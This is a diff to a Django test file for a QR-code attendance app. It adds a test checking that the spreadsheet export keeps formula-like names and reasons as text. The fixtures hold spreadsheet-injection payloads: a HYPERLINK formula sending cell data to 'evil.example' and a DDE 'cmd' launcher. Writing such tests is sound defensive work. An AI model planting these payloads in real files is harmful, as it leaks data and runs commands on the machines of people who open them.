@@ -1,12 +1,14 @@
 """Rotating-QR check-in: the code, the rules against proxy sign-in, manual entries, attendance."""
 
 import datetime as dt
+import io
 
 import pytest
 import time_machine
 from django.core.exceptions import ValidationError
 from django.urls import reverse
 from openpyxl import load_workbook
+from openpyxl.utils.escape import unescape
 
 from learntrace.checkin import services
 from learntrace.checkin.models import Attendance, CheckInEvent, Meeting
@@ -338,3 +340,20 @@ def test_full_width_digits_from_a_phone_keyboard_are_read_as_digits(org, client_
         assert response.status_code == 302
         client.post(response["Location"])
     assert Attendance.objects.get(employee=org.learner).method == "code"
+
+
+# ---------------------------------------------------------------- the export
+
+
+def test_the_export_keeps_formula_like_names_and_reasons_as_text(org, client_for, meeting):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    org.learner.name = formula
+    org.learner.save()
+    for prefix in ("=", "+", "-", "@", "\t", "\r"):
+        assert services.manual(meeting=meeting, employee=org.learner, actor=org.admin.user,
+                               reason=prefix + "cmd|' /C calc'!A0", kind=CheckInEvent.Kind.EXCUSED, now=at(0))
+        response = client_for(org.admin).get(reverse("checkin:export", args=[meeting.pk]))
+        sheet = load_workbook(io.BytesIO(response.content)).active
+        row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == org.learner.employee_no)
+        assert row[1].value == formula and row[1].data_type == "s"
+        assert unescape(row[11].value) == prefix + "cmd|' /C calc'!A0" and row[11].data_type == "s"
